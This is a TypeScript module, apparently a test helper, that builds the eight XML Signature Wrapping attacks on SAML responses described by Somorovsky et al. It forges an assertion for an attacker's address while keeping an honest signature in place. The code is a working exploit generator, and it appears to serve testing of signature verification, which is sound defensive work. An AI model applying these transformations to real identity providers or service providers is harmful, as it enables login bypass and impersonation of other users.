/** The parts that a signature wrapping attack moves around. */
interface Pieces {
  readonly document: string;
  readonly assertion: string;
  readonly signature: string;
}

/**
 * The eight ways of wrapping a signed element (Somorovsky et al., "On Breaking SAML", USENIX Security 2012). Each builds a
 * document with the valid signature of an honest one, and an assertion of the attacker.
 */
const ATTACKS: readonly ((pieces: Pieces) => string)[] = [
  ({ document, signature }) => afterIssuer(evil(unsigned(document)), holding(signature, unsigned(document))),
  ({ document, signature }) => afterIssuer(evil(unsigned(document)), unsigned(document) + signature),
  ({ document, assertion }) => document.replace(assertion, evil(unsigned(assertion)) + assertion),
  ({ document, assertion }) =>
    document.replace(assertion, beforeEnd(evil(unsigned(assertion)), 'saml:Assertion', assertion)),
  ({ document, assertion, signature }) =>
    beforeEnd(
      document.replace(assertion, afterIssuer(evil(unsigned(assertion)), signature)),
      'samlp:Response',
      unsigned(assertion),
    ),
  ({ document, assertion, signature }) =>
    document.replace(
      assertion,
      afterIssuer(evil(unsigned(assertion)), holding(signature, unsigned(assertion))),
    ),
  ({ document, assertion }) =>
    document.replace(
      assertion,
      `<samlp:Extensions>${evil(unsigned(assertion))}</samlp:Extensions>${assertion}`,
    ),
  ({ document, assertion, signature }) =>
    document.replace(
      assertion,
      beforeEnd(
        evil(unsigned(assertion)),
        'saml:Assertion',
        signature +
          `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${unsigned(assertion)}</ds:Object>`,
      ),
    ),
];

/** Applies one of the attacks, numbered from 1, to a signed response. */
export function wrapped(attack: number, document: string): string {
  const assertion = /<saml:Assertion[^]*<\/saml:Assertion>/.exec(document)?.[0] ?? '';
  const signature = /<ds:Signature [^]*?<\/ds:Signature>/.exec(document)?.[0] ?? '';
  const apply = ATTACKS[attack - 1];
  if (apply === undefined) throw new Error(`There is no attack ${attack}.`);
  return apply({ document, assertion, signature });
}

function unsigned(xml: string): string {
  return xml.replaceAll(/<ds:Signature [^]*?<\/ds:Signature>/g, '');
}

function evil(xml: string): string {
  return xml
    .replaceAll('ada@acme.example', 'mallory@acme.example')
    .replaceAll(/ ID="_(\w+)"/g, ' ID="_evil_$1"');
}

function holding(signature: string, content: string): string {
  return beforeEnd(signature, 'ds:Signature', `<ds:Object>${content}</ds:Object>`);
}

function afterIssuer(xml: string, addition: string): string {
  return xml.replace('</saml:Issuer>', () => `</saml:Issuer>${addition}`);
}

function beforeEnd(xml: string, name: string, addition: string): string {
  const end = xml.lastIndexOf(`</${name}>`);
  return xml.slice(0, end) + addition + xml.slice(end);
}
